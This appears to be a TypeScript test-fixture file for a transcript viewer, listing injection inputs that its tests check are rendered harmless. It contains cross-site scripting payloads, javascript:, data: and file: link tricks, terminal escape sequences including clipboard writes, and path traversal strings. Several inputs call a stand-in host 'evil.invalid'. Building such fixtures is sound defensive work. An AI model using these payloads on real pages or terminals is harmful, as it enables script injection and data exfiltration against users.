/**
 * What somebody would write into a transcript who wants it to do something when it is read. Each of them, if it ran,
 * would leave a trace that the tests look for: a global, a dialog, a title, a request.
 */

/** The name of the global that a payload sets when it runs. */
export const TRACE = 'backscrollRan'
/** A host that no document may ask for anything. */
export const EVIL_HOST = 'evil.invalid'

const RUN = `window.${TRACE}=1;document.title='ran';fetch('https://${EVIL_HOST}/f');alert(1)`
/** The same without quotes, for places where they would end something. */
const RUN_BARE = `${TRACE}=1,alert(1)`

/** For pages. */
export const MARKUP: readonly string[] = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</noscript><script>${RUN}</script>`,
  `</title></style></textarea></template><script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `"><svg onload="${RUN}">`,
  `'><svg/onload=${RUN_BARE}>`,
  `" autofocus onfocus="${RUN}" x="`,
  `' onmouseover='${RUN_BARE}' x='`,
  `\`onmouseover=${RUN_BARE} x=`,
  `<iframe srcdoc="<script>parent.${TRACE}=1</script>"></iframe>`,
  `<a href="javascript:${RUN_BARE}">press</a>`,
  `<style>@import 'https://${EVIL_HOST}/s.css';*{background:url(https://${EVIL_HOST}/b)}</style>`,
  `<link rel=stylesheet href=https://${EVIL_HOST}/l.css><meta http-equiv=refresh content="0;url=https://${EVIL_HOST}/">`,
  `<base href=https://${EVIL_HOST}/><form action=https://${EVIL_HOST}/><button>send</button></form>`,
  `<object data=https://${EVIL_HOST}/o></object><embed src=https://${EVIL_HOST}/e>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN_BARE}>`,
  `<details open ontoggle=${RUN_BARE}><summary>s</summary></details>`,
  `<input name=title id=title autofocus onfocus=${RUN_BARE}>`,
  `<!--><img src=x onerror=${RUN_BARE}>-->`,
  `]]><![CDATA[<script>${RUN}</script>]]>`,
  `&lt;script&gt;${RUN_BARE}&lt;/script&gt; &#60;img src=x onerror=${RUN_BARE}&#62;`,
  `{{constructor.constructor('${RUN_BARE}')()}} \${${RUN_BARE}} <%= ${RUN_BARE} %>`,
]

/** Links in Markdown and elsewhere: none of these may stay one. */
export const LINKS: readonly string[] = [
  `[press](javascript:${RUN_BARE})`,
  `[press](JaVaScRiPt:${RUN_BARE})`,
  `[press](java&#115;cript:${RUN_BARE})`,
  `[press](&#x6A;avascript&colon;${RUN_BARE})`,
  `[press](java%73cript:${RUN_BARE})`,
  `[press](<java\tscript:${RUN_BARE}>)`,
  `[press](\x01javascript:${RUN_BARE})`,
  `[press]( javascript:${RUN_BARE})`,
  `[press](vbscript:msgbox)`,
  `[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[press](file:///etc/passwd)`,
  `[press](blob:https://${EVIL_HOST}/x)`,
  `<javascript:${RUN_BARE}>`,
  `[press][ref]\n\n[ref]: javascript:${RUN_BARE} "title"`,
  `![picture](https://${EVIL_HOST}/p.png)`,
  `![picture](javascript:${RUN_BARE})`,
  `[![picture](x" onerror="${RUN_BARE})](javascript:${RUN_BARE})`,
  `[press](https://${EVIL_HOST}/"onmouseover="${RUN_BARE})`,
  `javascript:${RUN_BARE}`,
  `view-source:javascript:${RUN_BARE}`,
]

/** For terminals. */
export const ESCAPES: readonly string[] = [
  '\x1b[31mred\x1b[0m',
  '\x1b[38;2;1;2;3;48;5;200mcolours',
  '\x1b[8mhidden\x1b[28m',
  '\x1b[2J\x1b[H\x1b[3J',
  '\x1b[10A\x1b[2K\x1b[999D\x1b[5;5H',
  '\x1b[?1049h\x1b[?25l\x1b[?2004h',
  '\x1b[6n\x1b[c\x1b[>q\x1b[21t',
  '\x1b]0;title\x07\x1b]2;title\x1b\\',
  `\x1b]8;;https://${EVIL_HOST}/\x1b\\link\x1b]8;;\x1b\\`,
  '\x1b]52;c;ZXZpbA==\x07',
  '\x1b]1337;File=inline=1:AAAA\x07',
  '\x1bP+q544e\x1b\\\x1bPqsixel\x1b\\',
  '\x1b_Gapc\x1b\\\x1b^pm\x1b\\\x1bXsos\x1b\\',
  '\x1bc\x1b7\x1b8\x1b(0\x1b#8\x1b=',
  '\x9b31mC1\x9b0m \x9d0;C1 title\x9c \x90C1 dcs\x9c \x85 \x84',
  '\x07bell\x08\x08\x08back\x7fdel\x00nul\x0b\x0c\x0e\x0f\x18\x1a',
  'over\rwritten',
  '\x1b',
  '\x1b[',
  '\x1b[31',
  '\x1b]8;;unfinished',
]

/** Odd but silent. */
export const ODD: readonly string[] = [
  'a\u202egpj.exe\u202c \u2066isolated\u2069 \u2067rtl\u2069 \u202aemb\u202b\u202d',
  'zero\u200bwidth\u200djoin\u2060er\ufeffbom',
  'line\u2028separator\u2029paragraph',
  'lone \ud800 and \udfff surrogates',
  '‹github-token-1› …',
  '../../../../etc/passwd',
  'CON .. . %00 %2e%2e%2f',
  '__proto__',
  'constructor',
]

export const ALL: readonly string[] = [...MARKUP, ...LINKS, ...ESCAPES, ...ODD]
